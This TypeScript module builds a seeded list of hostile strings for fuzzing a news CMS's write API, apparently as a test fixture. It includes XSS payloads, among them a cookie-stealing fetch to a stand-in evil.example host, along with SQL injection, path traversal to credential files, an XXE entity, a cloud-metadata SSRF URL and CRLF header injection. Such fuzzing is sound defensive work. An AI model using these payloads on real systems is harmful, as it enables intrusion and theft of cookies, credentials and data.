/**
 * Hostile text for fuzzing write APIs: markup and script in many spellings, dangerous URLs,
 * template and JSON breakers, SQL, control and invisible characters, bidi overrides, lone
 * surrogates, normalisation look-alikes, traversal, CRLF and very long values. Generated
 * deterministically from a seed, so a failure names an input that the next run sends again.
 * No value contains a stack-frame or driver-error signature, so those in a response are leaks.
 */

export type HostileKind =
  | 'script-tag' | 'event-handler' | 'dangerous-url' | 'breakout' | 'template' | 'sql' | 'control-char'
  | 'lone-surrogate' | 'bidi' | 'zero-width' | 'long' | 'traversal' | 'crlf' | 'null-byte' | 'normalisation' | 'oddity';

export interface HostileString { kind: HostileKind; value: string }

/** A small deterministic generator (mulberry32). */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** One mebibyte: bigger than the Admin API's whole request body limit. */
export const ONE_MIB = 1024 * 1024;

/** Every hostile string, distinct, in a stable order (at least 500). */
export function hostileStrings(seed = 0xf022ed): HostileString[] {
  const rng = seededRandom(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(rng() * items.length)] as T;
  const out: HostileString[] = [];
  const seen = new Set<string>();
  const add = (kind: HostileKind, value: string) => {
    if (seen.has(value)) return;
    seen.add(value);
    out.push({ kind, value });
  };

  // Script elements: spellings of the tag, opening and closing forms.
  const cases = ['script', 'SCRIPT', 'ScRiPt', 'sCrIpT'];
  const opens = ['<S>', '<S >', '<S\t>', '<S\n>', '<S/>', '<S/x>', '<S type="text/javascript">', '<S src=//evil.example/x.js>',
    '<S src="data:text/javascript,alert(1)">', '<S async defer>', '<S\u000c>', '<S type=module>', "<S src='https://evil.example/a.js'>"];
  const closes = ['</S>', '</S >', '</S\n>', '', '</S foo="bar">', '</S\t>'];
  const bodies = ['alert(1)', 'alert(document.cookie)', 'fetch("//evil.example/?c="+document.cookie)', 'alert`1`', 'eval(atob("YWxlcnQoMSk="))', 'prompt(1)'];
  for (let i = 0; i < 25; i++) {
    const name = pick(cases);
    add('script-tag', `${pick(opens).replace('S', name)}${pick(bodies)}${pick(closes).replace('S', name)}`);
  }
  for (const v of ['<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1);//<</script>', '<script<{alert(1)}/></script>',
    '<script\u0000>alert(1)</script>', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '<script>alert(String.fromCharCode(88,83,83))</script>',
    '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '<script>/*', '*/alert(1)</script>', '<script>', '</script>', '<script src=x>', '<SCRIPT SRC=//evil.example/.j></SCRIPT>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><script href=data:,alert(1) />',
    '<xmp><script>alert(1)</script></xmp>', '<plaintext><script>alert(1)</script>', '<textarea><script>alert(1)</script></textarea>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<style>@import "//evil.example/x.css";</style>', '<link rel=stylesheet href=//evil.example/x.css>',
    '<object data="//evil.example/x.swf"></object>', '<embed src="//evil.example/x.swf">', '<base href="//evil.example/">', '<form action=//evil.example><input name=q></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">', '<meta charset="utf-7">', '<frameset onload=alert(1)>']) add('script-tag', v);

  // Elements with event handlers: tags × handlers × spellings.
  const elements = ['img src=x', 'svg', 'body', 'iframe', 'details open', 'video src=x', 'audio src=x', 'input autofocus', 'marquee', 'a href=#',
    'div', 'math', 'select autofocus', 'textarea autofocus', 'object data=x', 'embed src=x', 'style', 'image src=x', 'isindex', 'keygen autofocus', 'p', 'x'];
  const handlers = ['onerror', 'onload', 'onmouseover', 'onfocus', 'onclick', 'ontoggle', 'onbegin', 'onanimationstart', 'OnErRoR', 'onpointerenter',
    'ONLOAD', 'onfocusin', 'onauxclick', 'onbeforetoggle'];
  const calls = ['=alert(1)', '="alert(1)"', "='alert(1)'", '=alert`1`', '=&#97;lert(1)', '="javascript:alert(1)"', '=top[`al`+`ert`](1)', '=\u0000alert(1)'];
  const gaps = [' ', '\t', '\n', '/', ' \u000c', '\r\n'];
  for (let i = 0; i < 45; i++) {
    const el = pick(elements);
    const gap = pick(gaps);
    add('event-handler', `<${el.replace(/ /g, gap)}${gap}${pick(handlers)}${pick(calls)}>${rng() < 0.3 ? `</${el.split(' ')[0]}>` : ''}`);
  }
  for (const v of ['<img src=x onerror=alert(1)//', '<img src="x" onerror="alert(1)"', '<svg onload=alert(1)', '<svg/onload=alert(1)>', '<body onload=alert(1)>',
    '<img src=`x`onerror=alert(1)>', '<img src="x`<script>alert(1)</script>"` `>', '<a onmouseover=alert(1)>hover</a>', '<div style="width:expression(alert(1))">',
    '<div style="background:url(javascript:alert(1))">', '<x onclick=alert(1)>click</x>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set attributeName=href to=javascript:alert(1)>', '<input onfocus=alert(1) autofocus>', '<details open ontoggle=alert(1)>']) add('event-handler', v);

  // Dangerous URL schemes: spellings, entity encodings, whitespace inside the scheme, and where they are put.
  const schemes = ['javascript:', 'JaVaScRiPt:', 'JAVASCRIPT:', 'java\tscript:', 'java\nscript:', 'java\rscript:', ' javascript:', '\u0001javascript:',
    '&#106;avascript:', '&#x6A;avascript:', '&#0000106;&#0000097;vascript:', 'jav&#x09;ascript:', 'jav&#x0A;ascript:', 'javascript&colon;', '%6Aavascript:',
    'javascript\u0000:', 'vbscript:', 'VBScript:', 'vbscript&colon;', 'livescript:', 'data:text/html,', 'DATA:text/html,', 'data:text/html;base64,',
    'data:TEXT/HTML;charset=utf-8,', 'data:image/svg+xml,', 'data:application/xhtml+xml,', '\u00a0javascript:', 'javascript\u200b:'];
  const payloads: Record<string, string> = { 'data:text/html;base64,': 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' };
  const code = (scheme: string) => payloads[scheme] ?? (scheme.toLowerCase().startsWith('data') ? '<script>alert(1)</script>' : pick(['alert(1)', '//%0aalert(1)', 'msgbox(1)', 'void(0);alert(1)']));
  const places = ['U', '<a href="U">link</a>', "<a href='U'>link</a>", '<a href=U>link</a>', '<img src="U">', '<iframe src="U"></iframe>',
    '<form action="U"><button>go</button></form>', '<button formaction="U">go</button>', '<object data="U"></object>', '<embed src="U">',
    '<meta http-equiv="refresh" content="0;url=U">', '<base href="U">', '[link](U)', '![image](U)', '<U>', '<a href="  U">x</a>', '<svg><a xlink:href="U"><text>x</text></a></svg>',
    '<video poster="U"></video>', '<q cite="U">x</q>', '<img srcset="U 1x">'];
  for (let i = 0; i < 50; i++) {
    const scheme = pick(schemes);
    add('dangerous-url', pick(places).replace('U', `${scheme}${code(scheme)}`));
  }
  for (const v of ['//evil.example/x.png', '/\\evil.example/x.png', '\\\\evil.example\\x.png', 'https://x.example/"onerror="alert(1)', '/x.png" onerror="alert(1)',
    "/x.png'><script>alert(1)</script>", 'http://x.example/<script>alert(1)</script>', 'https:javascript:alert(1)', 'http://evil.example@news.example.test/',
    '/media/x.png?"><svg onload=alert(1)>', 'https://x.example/a.png#"><img src=x onerror=alert(1)>', 'http://[::1]:22/', 'http://169.254.169.254/latest/meta-data/',
    'file:///etc/passwd', 'ftp://evil.example/x', 'blob:https://evil.example/x', 'jar:http://evil.example!/x', 'mhtml:http://evil.example/x.mht!x', 'about:blank',
    'view-source:https://news.example.test/', 'https://evil.example/\u202Egnp.exe']) add('dangerous-url', v);

  // Breaking out of attributes, elements, comments and CDATA.
  const escapes = ['"><', "'><", '"/><', '</title><', '</textarea><', '</style><', '</noscript><', '--><', ']]><', '</script><', '"></a><', '</option></select><',
    '</iframe><', '</xmp><', '</noembed><', '*/</script><'];
  const tails = ['script>alert(1)</script>', 'img src=x onerror=alert(1)>', 'svg onload=alert(1)>', 'iframe src=javascript:alert(1)>', 'a href=javascript:alert(1)>x</a>'];
  for (let i = 0; i < 20; i++) add('breakout', `${pick(['', 'Harbour ', 'x'])}${pick(escapes)}${pick(tails)}`);
  for (const v of ['" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', '"onfocus=alert(1) autofocus x="', "'-alert(1)-'",
    '";alert(1);//', '\\";alert(1);//', "';alert(1);//", '</script>', '</SCRIPT >', '\u2028alert(1)', '\u2029alert(1)', '{"a":"</script>"}', '"}]}', '"', "'", '`',
    '\\', '\\"', "\\'", '<!--', '-->', '<!-- <script>alert(1)</script> -->', '<![CDATA[<script>alert(1)</script>]]>', ']]>', '<?xml version="1.0"?><x/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '&', '&amp;', '&lt;', '&#0;', '&#x110000;', '&nbsp;&nbsp;', '<', '>', '<>', '</>',
    '< script>alert(1)</script>', '<\tscript>alert(1)</script>', '<%2Fscript>', '<b>bold</b>', '<i>x', '</p></div></main></body></html>', '<p>',
    '<h1>Fake headline</h1>', '<table><tr><td>x', '<a name="x">', '</a>', '<br/>', '<hr>']) add('breakout', v);

  // Template engines, JavaScript template literals and JSON.
  for (const v of ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{=7*7}}', '${{7*7}}', '{{constructor.constructor("alert(1)")()}}', '{{$on.constructor("alert(1)")()}}',
    '${alert(1)}', '`${alert(1)}`', '{%raw%}{{7*7}}{%endraw%}', '[[7*7]]', '{7*7}', '@(7*7)', '*{7*7}', '{{> partial}}', '{{{html}}}', '<%- include("/etc/passwd") %>',
    '{"__proto__":{"admin":true}}', '__proto__', 'constructor', 'prototype', '[object Object]', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'true',
    'false', '0', '-1', '1e309', '[]', '{}', '{"headline":"x"}', '\\u0000', '\\x00', '\\n', '%s%s%s%s%n', '%x%x%x', '{0}', '$1', '$&', "$'", '$`']) add('template', v);

  // SQL, alone and inside text.
  const sql = ["'; DROP TABLE articles;--", "' OR 1=1--", "' OR '1'='1", '" OR ""="', "1'; DELETE FROM users;--", "admin'--", "') OR ('1'='1",
    "'; UPDATE articles SET status='published';--", "' UNION SELECT password_hash, email FROM users--", "1; SELECT pg_sleep(5)--", "' AND 1=CAST((SELECT version()) AS int)--",
    "'; ATTACH DATABASE '/tmp/x.db' AS x;--", "'||(SELECT email FROM users LIMIT 1)||'", "%' OR slug LIKE '%", "\\'; --", "1' ORDER BY 99--", "'; COPY users TO '/tmp/x';--",
    "x' COLLATE NOCASE--", "'; PRAGMA writable_schema=1;--", '$$; DROP TABLE articles; $$', "E'\\x27", "'/*", "*/'", '--', ';', "';"];
  for (const fragment of sql) add('sql', fragment);
  for (let i = 0; i < 5; i++) add('sql', `${pick(['Harbour bridge', 'Ada', 'News', 'a'])}${pick(sql)}`);

  // Control characters U+0000–U+001F and U+007F, alone and inside a word.
  for (let c = 0; c <= 0x20; c++) {
    const ch = String.fromCharCode(c === 0x20 ? 0x7f : c);
    add('control-char', ch);
    add('control-char', `Harbour${ch}bridge`);
  }
  add('control-char', '\u0080\u0085\u009b\u009f');
  add('control-char', '\u001b[2J\u001b[31mred');

  // Lone and reversed surrogates (the JSON layer accepts them as \\uD800 escapes).
  for (const v of ['\ud800', '\udbff', '\udc00', '\udfff', 'a\ud800b', '\udc00\ud800', 'Harbour \ud83d', '\ude00 bridge', '<script>\ud800</script>']) add('lone-surrogate', v);

  // Bidirectional overrides and marks.
  for (const mark of ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c']) {
    add('bidi', mark);
    add('bidi', `invoice${mark}gpj.exe`);
    add('bidi', `${mark}<script>alert(1)</script>`);
  }
  add('bidi', '\u202e\u2066alert(1)\u2069\u202c');

  // Zero-width and invisible characters.
  for (const zw of ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u180e', '\u00ad', '\u034f', '\u2800', '\u3164']) {
    add('zero-width', zw);
    add('zero-width', `scr${zw}ipt`);
    add('zero-width', `<scr${zw}ipt>alert(1)</script>`);
    add('zero-width', `java${zw}script:alert(1)`);
  }
  add('zero-width', '\u200b'.repeat(300));
  add('zero-width', ' \t\u00a0\u2003\u3000 ');

  // Very long values: around each limit, and well past the whole-body limit.
  add('long', 'a'.repeat(101));
  add('long', 'a'.repeat(201));
  add('long', 'a'.repeat(301));
  add('long', 'a'.repeat(501));
  add('long', 'a'.repeat(1001));
  add('long', 'a'.repeat(2001));
  add('long', 'x '.repeat(50_000));
  add('long', '<script>alert(1)</script>'.repeat(8000));
  add('long', '<b>'.repeat(30_000));
  add('long', '<div>'.repeat(20_000));
  add('long', '*'.repeat(50_000));
  add('long', '['.repeat(50_000));
  add('long', '>'.repeat(50_000));
  add('long', `Z${'\u0301'.repeat(2000)}`);
  add('long', '\ud83d\ude00'.repeat(150_000));
  add('long', 'A'.repeat(ONE_MIB));
  add('long', '<'.repeat(ONE_MIB));

  // Path traversal.
  for (const v of ['../../etc/passwd', '../../../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '....//....//etc/passwd',
    '/../../../etc/passwd', '..%c0%af..%c0%afetc/passwd', '/etc/passwd%00.jpg', '/media/../../package.json', '/static/../.env', '../.git/config',
    '/proc/self/environ', 'C:\\Windows\\System32\\drivers\\etc\\hosts', '..;/..;/etc/passwd', '%252e%252e%252fetc%252fpasswd']) add('traversal', v);

  // CR/LF (header injection where a value reaches a header) and other line breaks.
  for (const v of ['a\r\nSet-Cookie: dateline_session=x', '%0d%0aLocation: //evil.example', '\r\n\r\n<script>alert(1)</script>', 'x\ry', 'x\ny', 'x\r\ny',
    'line\u2028separator', 'para\u2029separator', 'next\u0085line', 'Harbour\r\nX-Injected: 1', '\n', '\r\n', '\n\n\n']) add('crlf', v);

  // Null bytes in places that matter.
  for (const v of ['\u0000', '\u0000\u0000\u0000', 'Harbour\u0000', '\u0000<script>alert(1)</script>', 'javascript\u0000:alert(1)', '%00', 'x%00y', 'image.png\u0000.html']) add('null-byte', v);

  // Unicode normalisation variants and look-alikes (compatibility forms of markup included).
  for (const v of ['\u00e9', 'e\u0301', '\u00c5', '\u212b', 'A\u030a', '\ufb01nance', '\uff53\uff43\uff52\uff49\uff50\uff54', '\u017fcript', '\u212aelvin',
    '\ufe64script\ufe65alert(1)\ufe64/script\ufe65', '\u2329script\u232a', '\u1d36avascript:alert(1)', '\u0130stanbul', 'stra\u00dfe', 'STRASSE', '\u0131',
    '\u03a9\u2126', '\u1e9b\u0323', '\u0041\u030a\u0301', '\u00bd', '\u2460', '\u0663\u0664', 'x\u0308\u0323', '\u1100\u1161\u11a8', '\uac01',
    'D\u0307\u0323', '\u0065\u0301\u0301\u0301', '\uff1cimg src=x onerror=alert(1)\uff1e']) add('normalisation', v);

  // Odd but not hostile on their face: empty, whitespace, non-characters, private use, emoji.
  for (const v of ['', ' ', '   ', '\t', '\u00a0', '\ufffe', '\uffff', '\ufffd', '\ue000', '\udbff\udfff', '\udb40\udc01\udb40\udc41', '\ud83d\udc69\u200d\ud83d\udcbb',
    '\ud83c\udff3\ufe0f\u200d\ud83c\udf08', '\u0644\u064f\u0644\u064f\u0635\u0651\u0628\u064f\u0644\u064f\u0644\u0635\u0651\u0628\u064f\u0631\u0631\u064b \u0965 \u0965',
    'ZALGO\u0336\u0337\u0338\u0339\u033a\u033b\u033c', '\ud800\udc00', 'Harbour bridge reopens', 'a', 'A', '-', '_', '.', '..', '/', '?', '#', '%', '+', '*']) add('oddity', v);

  return out;
}

/** Up to `count` strings taken round-robin across kinds, so a sample still has every kind. */
export function spreadSample(strings: readonly HostileString[], count: number): HostileString[] {
  const byKind = new Map<HostileKind, HostileString[]>();
  for (const s of strings) byKind.set(s.kind, [...(byKind.get(s.kind) ?? []), s]);
  const queues = [...byKind.values()];
  const out: HostileString[] = [];
  for (let round = 0; out.length < count && queues.some((q) => q.length > round); round++) {
    for (const q of queues) {
      const item = q[round];
      if (item && out.length < count) out.push(item);
    }
  }
  return out;
}

/** Ordinary text of many scripts that must come back exactly as sent. */
export const ORDINARY_UNICODE = {
  arabic: 'افتتاح المكتبة الجديدة',
  hebrew: 'פתיחת הספרייה החדשה',
  emoji: 'Coders 👩🏽‍💻 and families 👨‍👩‍👧‍👦 🏳️‍🌈',
  combining: 'Cafe\u0301 and caf\u00e9',
  cjk: '新图书馆开幕 新しい図書館 새 도서관',
  mixed: 'Zoë’s «café» — naïve façade ½ ™',
} as const;
